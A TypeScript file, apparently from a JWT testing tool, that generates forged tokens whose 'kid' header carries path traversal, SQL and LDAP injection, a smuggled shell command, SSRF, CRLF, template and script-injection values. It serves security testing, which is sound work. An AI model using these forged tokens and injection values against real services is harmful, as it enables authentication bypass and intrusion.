import { signHmac, signToken } from '../token/sign.ts'
import { prolonged, tokenAttack, type Attack } from './attack.ts'

/** A kid that names a file, and what is in the file. */
const FILES: readonly (readonly [name: string, kid: string, secret: string])[] = [
  ['dev-null', '/dev/null', ''],
  ['traversal', '../../../../../../../../dev/null', ''],
  ['traversal-encoded', '..%2f..%2f..%2f..%2f..%2f..%2fdev%2fnull', ''],
  ['file-url', 'file:///dev/null', ''],
  ['zero-byte', '/dev/null\u0000.pem', ''],
  ['randomize', '/proc/sys/kernel/randomize_va_space', '2\n'],
]

const QUERIES: readonly (readonly [name: string, kid: string, secret: string])[] = [
  ['sql', "x' UNION SELECT 'attacker' -- ", 'attacker'],
  ['sql-hash', "x' UNION SELECT 'attacker'#", 'attacker'],
  ['sql-double', 'x" UNION SELECT "attacker" -- ', 'attacker'],
  ['ldap', '*)(kid=*', ''],
]

/** Values of kid that no key has, to see what they break. */
const ODD: readonly (readonly [name: string, sentence: string, kid: unknown])[] = [
  ['empty', 'an empty text', ''],
  ['number', 'a number', 0],
  ['null', 'null', null],
  ['true', 'true', true],
  ['list', 'a list', ['kid']],
  ['object', 'an object', { $ne: null }],
  ['proto', '__proto__', '__proto__'],
  ['constructor', 'constructor', 'constructor'],
  ['to-string', 'toString', 'toString'],
  ['command', 'a command', '; sleep 0 #'],
  ['address', 'an address of this machine', 'http://127.0.0.1:9/'],
  ['control', 'line breaks and a header', 'x\r\nSet-Cookie: probe=1'],
  ['template', 'a template', '{{7*7}}${7*7}'],
  ['markup', 'markup', '<script>alert(1)</script>'],
  ['long', '2,000 letters', 'k'.repeat(2000)],
  ['wide', 'letters of many bytes', '\u{1f511}'.repeat(50)],
]

/** What kid may lead to. RFC 8725 §3.10. */
export const keyIdAttacks: readonly Attack[] = [
  ...[...FILES, ...QUERIES].map(([name, kid, secret]) =>
    tokenAttack(
      'key-id',
      'kid-injection',
      `kid-${name}`,
      `signed by HS256 with what a kid like ${JSON.stringify(kid)} would lead to`,
      ({ good }) => signHmac({ ...good.header, alg: 'HS256', kid }, prolonged(good), secret),
    ),
  ),
  ...ODD.map(([name, sentence, kid]) =>
    tokenAttack('key-id', 'signature-not-checked', `kid-${name}`, `signed by the attacker's key, and kid is ${sentence}`, ({ good, keys }) =>
      signToken({ ...good.header, kid }, prolonged(good), keys.same.privateKey, keys.same.alg),
    ),
  ),
  tokenAttack(
    'key-id',
    'first-key',
    'kid-of-nobody',
    'a good signature of the issuer, under a kid that nobody published',
    ({ mint }) => mint?.({ forge: { header: { kid: 'nobody-has-this-kid' } } }),
  ),
]
